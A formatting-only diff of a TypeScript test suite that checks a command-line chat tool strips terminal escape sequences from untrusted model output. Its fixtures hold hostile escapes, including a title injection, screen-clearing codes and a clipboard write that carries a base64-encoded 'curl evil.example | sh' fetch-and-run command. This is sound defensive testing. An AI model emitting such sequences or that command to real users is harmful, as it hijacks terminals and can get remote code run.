@@ -43,7 +43,14 @@ const run = (args: string[], input = '') => runLoom(ctx.ws, ctx.server.baseUrl, 
 
 describe('guarantee 7: untrusted text cannot drive the terminal', () => {
   it('a model reply streamed with every sequence split across chunks, with -p and in the REPL', async () => {
-    const pieces = ['Look: \x1b', ']52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07', '\x1b]0;you have been owned', '\x07\x1b[2', 'J\x1b[H\x1b[5A\x1b[2K\x1b7\x1b8\x9b', '2J\rDEL\x7f done'];
+    const pieces = [
+      'Look: \x1b',
+      ']52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
+      '\x1b]0;you have been owned',
+      '\x07\x1b[2',
+      'J\x1b[H\x1b[5A\x1b[2K\x1b7\x1b8\x9b',
+      '2J\rDEL\x7f done',
+    ];
     expect(pieces.join('')).toBe(`Look: ${HOSTILE} done`);
     ctx.server.enqueue({ chunks: pieces }, { text: 'summary' }, { chunks: pieces });
 
@@ -85,7 +92,7 @@ describe('guarantee 7: untrusted text cannot drive the terminal', () => {
     expect(repl.stdout).toContain('no_such_tool\\u001b]0;you have been owned\\u0007');
   });
 
-  it('stored titles and summaries: the model\'s summary, --rename, --import; then --list-sessions, --search, --info, --export', async () => {
+  it("stored titles and summaries: the model's summary, --rename, --import; then --list-sessions, --search, --info, --export", async () => {
     // The listing summary comes from the model, so it is untrusted too.
     ctx.server.enqueue({ text: `Zebras are striped. ${HOSTILE}` }, { text: `About zebras ${HOSTILE}` });
     const first = await run(['-p', 'tell me about zebras']);
@@ -124,7 +131,12 @@ describe('guarantee 7: untrusted text cannot drive the terminal', () => {
     }
 
     // --json stays valid JSON and says exactly what is stored.
-    for (const args of [['--list-sessions', '--json'], ['--search', 'zebras', '--json'], ['--info', importedId, '--json'], ['--export', importedId]]) {
+    for (const args of [
+      ['--list-sessions', '--json'],
+      ['--search', 'zebras', '--json'],
+      ['--info', importedId, '--json'],
+      ['--export', importedId],
+    ]) {
       const json = await run(args);
       expectHarmless(json.stdout);
       const text = JSON.stringify(JSON.parse(json.stdout));
